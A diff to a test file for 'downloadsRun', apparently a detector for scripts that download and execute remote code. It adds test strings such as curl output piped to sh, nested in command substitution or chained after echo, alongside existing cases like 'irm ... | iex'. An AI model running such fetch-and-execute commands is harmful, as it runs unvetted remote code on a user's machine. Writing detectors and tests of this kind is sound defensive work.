@@ -9,6 +9,8 @@ describe('downloadsRun', () => {
     'sh -c "$(curl https://example.com/x)"',
     'curl https://example.com/x \\\n  | python3',
     'irm https://example.com/x | iex',
+    'echo "$(curl https://example.com/x | sh)"',
+    'echo a; curl https://example.com/x | sh',
   ])('finds %j', (script) => {
     expect(downloadsRun(script)).toHaveLength(1);
   });
@@ -17,6 +19,7 @@ describe('downloadsRun', () => {
     'curl -O https://example.com/x',
     'curl https://example.com/x | jq .',
     'curl x; sh build.sh',
+    'echo "run: curl https://example.com/x | sh"',
   ])('accepts %j', (script) => {
     expect(downloadsRun(script)).toEqual([]);
   });
